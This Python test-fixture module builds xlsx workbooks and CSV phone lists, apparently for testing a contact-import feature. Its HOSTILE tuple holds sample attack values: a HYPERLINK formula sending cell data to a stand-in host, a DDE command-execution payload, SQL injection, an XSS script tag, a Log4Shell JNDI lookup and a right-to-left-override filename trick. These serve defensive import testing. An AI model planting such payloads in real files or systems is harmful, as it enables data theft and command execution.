"""Lists as people make them, for tests of imports: workbooks with floats, old encodings, and rows that are hostile.

Never more than a test needs.
"""

from __future__ import annotations

import io
from collections.abc import Sequence

import xlsxwriter

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE leads; --",
    "<script>alert(1)</script>",
    "\x1b[2J\x07\u202egnp.exe",
    "x" * 40_000,
    "${jndi:ldap://evil.example/a}",
    "Robert\tTables\r\n",
)
"""Cells of strangers, each in the place of a phone."""


def workbook(*sheets: tuple[str, Sequence[Sequence[object]]]) -> bytes:
    """An xlsx file: numbers as numbers, texts as texts."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        for name, rows in sheets:
            sheet = book.add_worksheet(name)
            for at, row in enumerate(rows):
                for column, cell in enumerate(row):
                    if isinstance(cell, str):
                        sheet.write_string(at, column, cell)
                    elif cell is not None:
                        sheet.write_number(at, column, cell)
    return file.getvalue()


def long_csv(first: int, rows: int, every_bad: int = 0) -> bytes:
    """`phone,name,note`; with `every_bad` each so-many-th row has no number."""
    lines = ["phone,name,note"]
    for n in range(first, first + rows):
        bad = every_bad and n % every_bad == every_bad - 1
        lines.append(f"{'none' if bad else f'090{n:07d}'},Nguyễn Văn {n},{'=' if n % 50 == 0 else ''}ghi chú {n}")
    return ("\n".join(lines) + "\n").encode()
